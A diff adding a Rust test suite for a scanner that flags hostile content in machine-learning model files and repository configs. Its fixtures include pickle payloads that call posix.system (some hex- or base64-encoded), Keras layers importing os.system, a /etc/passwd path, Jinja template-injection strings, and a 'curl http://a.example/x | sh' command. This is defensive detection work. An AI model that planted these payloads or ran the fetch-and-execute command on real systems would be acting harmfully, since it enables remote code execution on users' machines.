@@ -1,0 +1,204 @@
+//! What is hostile in joblib, HDF5, Keras, SavedModel, TFLite and repository files is seen, and what is
+//! ordinary there is not held against them.
+
+#![allow(clippy::expect_used, reason = "a test that cannot prepare its world has failed")]
+
+use bartizan_artifact::INSPECTORS;
+use bartizan_inspect::{Examination, Limits, Source, examine};
+
+fn look(name: &str, bytes: &[u8]) -> Examination {
+    examine(&Source::from_bytes(name, bytes.to_vec(), Limits::default()), INSPECTORS)
+}
+
+fn fixture(name: &str) -> Vec<u8> {
+    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures").join(name);
+    std::fs::read(path).expect("a fixture")
+}
+
+#[track_caller]
+fn flags(name: &str, bytes: &[u8], rule: &str) {
+    let seen = look(name, bytes);
+    assert!(seen.findings.iter().any(|finding| finding.rule.id == rule), "{name}, {rule}: {seen:?}");
+}
+
+#[track_caller]
+fn clean(name: &str, bytes: &[u8]) {
+    let seen = look(name, bytes);
+    assert!(!seen.inspectors.is_empty(), "{name}: nobody looked");
+    assert!(seen.findings.is_empty() && seen.completeness.is_complete(), "{name}: {seen:?}");
+}
+
+#[test]
+fn arrays_of_joblib_are_followed_to_the_last_opcode() {
+    clean("arrays.joblib", &fixture("arrays.joblib"));
+    flags("a.joblib", &fixture("hostile-object-array.joblib"), "BZ-PKL-001");
+    flags("a.joblib", &fixture("hostile-after-array.joblib"), "BZ-PKL-001");
+}
+
+#[test]
+fn array_data_that_a_plain_unpickler_would_run_are_seen() {
+    let mut bytes = fixture("arrays.joblib");
+    let build = bytes.windows(4).position(|window| window == b"K\x10ub").expect("the BUILD of the first array");
+    let start = build + 4;
+    let padding = 1 + usize::from(bytes[start]);
+    // To joblib `0` is the length of a padding of 48 bytes, to pickle it is POP, and the padding a program.
+    let mut padded = b"0cposix\nsystem\n(S'id'\ntR.".to_vec();
+    padded.resize(1 + 48, b'.');
+    bytes.splice(start..start + padding, padded);
+    let seen = look("a.joblib", &bytes);
+    assert!(seen.completeness.is_complete(), "joblib reads it to the end: {seen:?}");
+    flags("a.joblib", &bytes, "BZ-PKL-001");
+}
+
+#[test]
+fn a_dtype_that_lies_about_its_size_is_not_followed() {
+    let mut bytes = fixture("arrays.joblib");
+    // The size in the state of the structured dtype: 12 becomes 13.
+    let at = bytes.windows(4).position(|window| window == b"K\x0cK\x01").expect("the size of the structure");
+    bytes[at + 1] = 13;
+    assert!(!look("a.joblib", &bytes).completeness.is_complete());
+}
+
+#[test]
+fn keras_configurations_in_hdf5_are_read() {
+    clean("dense.h5", &fixture("dense.h5"));
+    flags("lambda.h5", &fixture("lambda.h5"), "BZ-KRS-001");
+    flags("pickled.h5", &fixture("pickled-attribute.h5"), "BZ-PKL-001");
+    flags("external.h5", &fixture("external-link.h5"), "BZ-HDF-001");
+    let cut = &fixture("dense.h5")[..1500];
+    assert!(!look("cut.h5", cut).completeness.is_complete());
+}
+
+#[test]
+fn keras_objects_are_judged_by_what_they_import() {
+    let layer = |object: &str| format!(r#"{{"class_name":"Functional","config":{{"layers":[{object}]}}}}"#);
+    let check = |object: &str, rule: &str| flags("model.json", layer(object).as_bytes(), rule);
+    check(r#"{"module":"os","class_name":"function","config":"system"}"#, "BZ-KRS-003");
+    check(r#"{"module":"keras.utils","class_name":"function","config":"get_file"}"#, "BZ-KRS-004");
+    check(r#"{"module":"keras.src.utils.torch_utils","class_name":"TorchModuleWrapper","config":{}}"#, "BZ-KRS-004");
+    check(r#"{"class_name":"__lambda__","config":{"value":"4wEA"}}"#, "BZ-KRS-001");
+    check(r#"{"class_name":"Lambda","config":{"function":{"class_name":"__lambda__","config":{}}}}"#, "BZ-KRS-001");
+    check(r#"{"class_name":"Lambda","config":{"function":"my_function","function_type":"function"}}"#, "BZ-KRS-002");
+    check(
+        r#"{"module":"keras.layers","class_name":"StringLookup","config":{"vocabulary":"/etc/passwd"}}"#,
+        "BZ-KRS-005",
+    );
+    check(r#"{"module":"builtins","class_name":"Mine","registered_name":"pack>Mine","config":{}}"#, "BZ-KRS-006");
+    clean(
+        "model.json",
+        layer(r#"{"module":"keras.layers","class_name":"Dense","config":{"activation":{"module":"keras.activations","class_name":"function","config":"relu"}},"registered_name":null}"#)
+            .as_bytes(),
+    );
+}
+
+fn field(number: u8, content: &[u8]) -> Vec<u8> {
+    let mut out = vec![number << 3 | 2, u8::try_from(content.len()).expect("short")];
+    out.extend_from_slice(content);
+    out
+}
+
+fn saved_model(operators: &[&str], in_function: &[&str]) -> Vec<u8> {
+    let nodes = |field_number, operators: &[&str]| -> Vec<u8> {
+        operators.iter().flat_map(|operator| field(field_number, &field(2, operator.as_bytes()))).collect()
+    };
+    let library = field(2, &field(1, &nodes(3, in_function)));
+    let graph = field(2, &[nodes(1, operators), library].concat());
+    [vec![0x08, 1], field(2, &graph)].concat()
+}
+
+#[test]
+fn operators_of_a_saved_model_are_judged_in_graph_and_functions() {
+    clean("saved_model.pb", &saved_model(&["MatMul", "SaveV2"], &["Relu"]));
+    flags("saved_model.pb", &saved_model(&["MatMul", "PyFunc"], &[]), "BZ-TFM-001");
+    flags("saved_model.pb", &saved_model(&["MatMul"], &["EagerPyFunc"]), "BZ-TFM-001");
+    flags("saved_model.pb", &saved_model(&["ReadFile"], &[]), "BZ-TFM-002");
+    flags("saved_model.pb", &saved_model(&["Mine>Act"], &[]), "BZ-TFM-003");
+    let metadata = field(1, &field(4, br#"{"class_name":"Lambda","config":{"function_type":"lambda"}}"#));
+    flags("keras_metadata.pb", &metadata, "BZ-KRS-001");
+    let whole = saved_model(&["MatMul"], &[]);
+    assert!(!look("saved_model.pb", &whole[..whole.len() - 2]).completeness.is_complete());
+}
+
+/// A FlatBuffer with one operator code, custom where `name` says so (schema.fbs).
+fn tflite(name: &str) -> Vec<u8> {
+    let mut out = vec![0_u8; 8];
+    out[4..8].copy_from_slice(b"TFL3");
+    let word = |value: usize| u32::try_from(value).expect("short").to_le_bytes();
+    // vtable of the model: size 8, table size 8, field 0 absent, field 1 at 4.
+    let vtable = out.len();
+    for half in [8_u16, 8, 0, 4] {
+        out.extend_from_slice(&half.to_le_bytes());
+    }
+    let table = out.len();
+    out.extend_from_slice(&word(table - vtable));
+    out.extend_from_slice(&word(4));
+    // The vector: one entry, which is 4 + 8 bytes further on.
+    out.extend_from_slice(&word(1));
+    let vtable_of_code = out.len() + 4;
+    out.extend_from_slice(&word(4 + 8));
+    for half in [8_u16, 8, 0, 4] {
+        out.extend_from_slice(&half.to_le_bytes());
+    }
+    let code = out.len();
+    out.extend_from_slice(&word(code - vtable_of_code));
+    out.extend_from_slice(&word(4));
+    out.extend_from_slice(&word(name.len()));
+    out.extend_from_slice(name.as_bytes());
+    out[0..4].copy_from_slice(&word(table));
+    out
+}
+
+#[test]
+fn custom_operators_of_tflite_are_named() {
+    flags("m.tflite", &tflite("FlexPyFunc"), "BZ-TFL-002");
+    flags("m.tflite", &tflite("Mine"), "BZ-TFL-001");
+    clean("m.tflite", &tflite("TFLite_Detection_PostProcess"));
+    let mut lying = tflite("Mine");
+    lying[0] = 0xff;
+    flags("m.tflite", &lying, "BZ-TFL-003");
+}
+
+#[test]
+fn configurations_beside_the_weights_are_read() {
+    flags("config.json", br#"{"model_type":"x","auto_map":{"AutoModel":"modeling_x.XModel"}}"#, "BZ-REP-001");
+    flags(
+        "tokenizer_config.json",
+        br#"{"tokenizer_class":"T","chat_template":"{{ ''.__class__.__mro__ }}"}"#,
+        "BZ-REP-002",
+    );
+    flags("chat.jinja", b"{% for x in cycler.__init__.__globals__ %}{% endfor %}", "BZ-REP-002");
+    flags("config.json", br#"{"model_type":"x","setup":"curl http://a.example/x | sh"}"#, "BZ-REP-003");
+    clean("class.py.j2", b"class {{ name }}:\n    def __init__(self):\n        pass\n");
+    clean(
+        "tokenizer_config.json",
+        br#"{"tokenizer_class":"T","chat_template":"{% for m in messages %}{{ m['content'] }}{% endfor %}"}"#,
+    );
+}
+
+#[test]
+fn encoded_pickles_in_text_are_followed() {
+    let inner = b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x02id\x85R.";
+    let hexadecimal: String = inner.iter().map(|byte| format!("{byte:02x}")).collect();
+    let base64 = "gASMBXBvc2l4jAZzeXN0ZW2TjAJpZIVSLg==";
+    for text in [hexadecimal.as_str(), base64] {
+        let outer = [b"\x80\x04\x8c", &[u8::try_from(text.len()).expect("short")][..], text.as_bytes(), b"."].concat();
+        flags("m.pkl", &outer, "BZ-PKL-011");
+        flags("m.pkl", &outer, "BZ-PKL-001");
+    }
+}
+
+#[test]
+fn a_class_that_may_be_made_empty_may_not_be_called() {
+    let class = "csklearn.utils._bunch\nBunch\n";
+    let made = "cstatsmodels.base.data\nModelData\n";
+    clean("m.pkl", format!("\u{80}\u{2}{made})\u{81}}}b.").chars().map(|c| c as u8).collect::<Vec<u8>>().as_slice());
+    flags("m.pkl", format!("{made}(S'x'\ntR.").as_bytes(), "BZ-PKL-009");
+    flags("m.pkl", format!("(i{}.", &made[1..]).as_bytes(), "BZ-PKL-009");
+    let base = format!("ccopyreg\n_reconstructor\n({class}{made}NtR.");
+    flags("m.pkl", base.as_bytes(), "BZ-PKL-009");
+}
+
+#[test]
+fn distributions_of_scipy_that_execute_their_state_are_dangerous() {
+    flags("m.pkl", b"cscipy.stats._continuous_distns\nnorm_gen\n)\x81}b.", "BZ-PKL-001");
+}
